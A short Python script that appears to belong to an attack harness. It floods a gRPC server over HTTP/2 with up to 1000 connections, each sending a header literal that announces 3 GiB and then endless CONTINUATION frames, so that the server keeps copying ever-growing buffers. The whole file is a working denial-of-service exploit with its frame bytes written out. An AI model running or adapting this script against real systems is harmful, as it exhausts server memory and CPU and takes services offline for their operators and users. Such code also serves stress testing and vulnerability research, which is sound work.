"""One connection that sends a header field with an announced length of 3 GiB.
With each piece gRPC copies all earlier pieces."""

import attack
import http2

ANNOUNCED = 3 << 30
PIECE = 16384


def feed(target, stage, beginning, piece):
    """HEADERS with the bytes `beginning`, then CONTINUATION frames without an
    end, each with the bytes `piece`."""
    sent = 0
    continuation = http2.frame(http2.CONTINUATION, 0, 1, piece) * 16
    while not stage.over() and len(stage.held) < 1000:
        connection = http2.Connection(target)
        stage.held.append(connection)
        connection.await_greeting(stage.until)
        connection.answers = False
        connection.send(http2.frame(http2.HEADERS, 0, 1, beginning))
        while not stage.over() and connection.send(continuation, 0.5):
            sent += 16 * len(piece)
            connection.pump(0)
    stage.figures["sent_mib"] = sent >> 20
    stage.figures["connections"] = len(stage.held)


def run(target, stage):
    """A literal whose value never ends."""
    beginning = (b"\x83\x86\0" + http2.varint(1, 7) + b"x" +
                 http2.varint(ANNOUNCED, 7))
    feed(target, stage, beginning, b"a" * PIECE)


if __name__ == "__main__":
    attack.main(run, seconds=5)
